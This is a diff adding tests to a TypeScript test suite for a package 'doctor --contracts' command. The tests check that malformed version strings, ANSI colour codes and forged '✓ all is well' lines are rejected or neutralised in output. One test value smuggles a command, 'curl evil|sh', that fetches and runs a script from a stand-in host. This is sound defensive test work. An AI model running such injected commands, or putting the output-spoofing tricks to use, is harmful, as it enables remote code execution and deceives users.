@@ -5,6 +5,7 @@ import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
+import { gzipSync } from "node:zlib";
 import { defineTool, type ExecutableTool, type JsonSchema } from "@toolcrib/core";
 import { createManifest } from "@toolcrib/core/contracts";
 import { type ProgramEnd, sharedFolder, startProgram, temporaryFolder } from "@toolcrib/testing";
@@ -241,7 +242,64 @@ describe("doctor --contracts", () => {
     put(join(project, "package.json"), "{");
     expect((await doctor()).stderr).toContain("package.json is not valid JSON");
   });
+
+  test.each([
+    "9.9.9 https://evil/x.tgz; curl evil|sh #",
+    "9.9.9\n✓ all is well",
+    "9.9.9\u001b[31m",
+    "9.9",
+    "latest",
+    "",
+  ])("takes no version that is none, installed or packed: %j", async (version) => {
+    const tarball = join(project, "packed.tgz");
+    writeFileSync(tarball, tar({ "package.json": JSON.stringify({ name, version }) }));
+    const packed = await doctor("--tarballs", tarball);
+    expect(packed.stderr).toContain("--tarballs: packed.tgz: package.json has no version such as 0.1.0");
+    put(installed(name, "package.json"), JSON.stringify({ name, version }));
+    const { stdout, code } = await doctor();
+    expect(stdout.split("\n").slice(1)).toEqual([
+      "✗ @toolcrib/tools-fs: node_modules/@toolcrib/tools-fs is not whole: package.json has no version such as 0.1.0. Install again: npm install",
+      "",
+    ]);
+    expect(code).toBe(1);
+  });
+
+  test("what a package and package.json say stays on its line and has no colour", async () => {
+    const forged = "x\n✓ all is well\r\u2028\u001b[31mred\u0085";
+    const env = { HOME: home, USERPROFILE: home, FORCE_COLOR: "1" };
+    const end = (): Promise<ProgramEnd> => startProgram(bin, ["doctor"], { cwd: project, env }).ended;
+    put(join(project, "package.json"), JSON.stringify({ dependencies: { [name]: `^0.1.0${forged}` } }));
+    expect((await end()).stdout).toContain("package.json has ^0.1.0x ✓ all is well [31mred, a range for npm to read");
+    const { manifestVersion, tools } = createManifest(name, [readFile({ path }, ["path"])]);
+    const forgedTools = tools.map((tool) => ({ ...tool, name: forged, traits: { ...tool.traits, [forged]: true } }));
+    const manifest = { manifestVersion, package: name, tools: forgedTools };
+    put(installed(name, "dist/manifest.json"), JSON.stringify(manifest));
+    const compared = (await end()).stdout;
+    put(
+      installed(name, "package.json"),
+      JSON.stringify({ name, version: "0.1.0", exports: { "./manifest.json": forged } }),
+    );
+    const damaged = (await end()).stdout;
+    expect(damaged).toContain("is not whole: x ✓ all is well");
+    for (const said of [compared, damaged]) {
+      expect(said.split("\n✓")).toHaveLength(1);
+      expect(said).not.toMatch(/\u001b\[31mred|[\r\u2028\u0085]/);
+    }
+  });
 });
+
+/** A tarball as npm packs one, also of what npm would refuse to pack. */
+function tar(files: Readonly<Record<string, string>>): Buffer {
+  const blocks = Object.entries(files).flatMap(([file, text]) => {
+    const [header, body] = [Buffer.alloc(512), Buffer.alloc(Math.ceil(Buffer.byteLength(text) / 512) * 512)];
+    header.write(`package/${file}`);
+    header.write(Buffer.byteLength(text).toString(8), 124);
+    header.write("0", 156);
+    body.write(text);
+    return [header, body];
+  });
+  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
+}
 
 test.each([
   ["^0.1.0", "0.1.5", true],
